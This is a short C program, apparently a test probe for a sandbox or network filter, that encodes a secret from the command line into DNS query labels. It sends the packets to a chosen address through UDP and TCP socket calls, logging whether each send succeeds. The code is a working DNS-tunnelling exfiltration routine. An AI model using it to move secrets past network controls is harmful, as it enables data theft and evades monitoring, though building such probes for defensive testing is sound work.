// Sends a secret as the labels of DNS questions: dns_exfil ADDRESS PORT SECRET SUFFIX
#include "attack.h"

static unsigned char packet[512];
static size_t packet_size;

static void Ask(const char* way, const char* secret, const char* suffix) {
  char name[256];
  snprintf(name, sizeof name, "%s.%s.%s", way, secret, suffix);
  static const unsigned char header[12] = {0x12, 0x34, 1, 0, 0, 1};
  memcpy(packet, header, 12);
  size_t at = 12;
  for (char* label = strtok(name, "."); label; label = strtok(NULL, ".")) {
    size_t length = strlen(label);
    packet[at++] = (unsigned char)length;
    memcpy(packet + at, label, length);
    at += length;
  }
  static const unsigned char end[5] = {0, 0, 1, 0, 1};
  memcpy(packet + at, end, 5);
  packet_size = at + 5;
}

int main(int argc, char** argv) {
  if (argc != 5) return 2;
  struct sockaddr_in to = Ipv4(argv[1], atoi(argv[2]));
  struct iovec data = {packet, 0};
  struct mmsghdr message;
  memset(&message, 0, sizeof message);
  message.msg_hdr.msg_name = &to;
  message.msg_hdr.msg_namelen = sizeof to;
  message.msg_hdr.msg_iov = &data;
  message.msg_hdr.msg_iovlen = 1;

  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  Ask("sendto", argv[3], argv[4]);
  Result("sendto", sendto(fd, packet, packet_size, 0, (struct sockaddr*)&to, sizeof to));
  Ask("sendmsg", argv[3], argv[4]);
  data.iov_len = packet_size;
  Result("sendmsg", sendmsg(fd, &message.msg_hdr, 0));
  Ask("sendmmsg", argv[3], argv[4]);
  data.iov_len = packet_size;
  Result("sendmmsg", sendmmsg(fd, &message, 1, 0));
  long connected = connect(fd, (struct sockaddr*)&to, sizeof to);
  Result("udp connect", connected);
  if (connected == 0) {
    Ask("connected", argv[3], argv[4]);
    Result("send", send(fd, packet, packet_size, 0));
    Ask("write", argv[3], argv[4]);
    Result("write", write(fd, packet, packet_size));
    Ask("writev", argv[3], argv[4]);
    data.iov_len = packet_size;
    Result("writev", writev(fd, &data, 1));
  }
  close(fd);

  fd = socket(AF_INET, SOCK_STREAM, 0);
  connected = connect(fd, (struct sockaddr*)&to, sizeof to);
  Result("tcp connect", connected);
  if (connected == 0) {
    Ask("tcp", argv[3], argv[4]);
    unsigned char framed[514];
    framed[0] = (unsigned char)(packet_size >> 8);
    framed[1] = (unsigned char)packet_size;
    memcpy(framed + 2, packet, packet_size);
    Result("tcp write", write(fd, framed, packet_size + 2));
  }
  close(fd);
  Done();
  return 0;
}
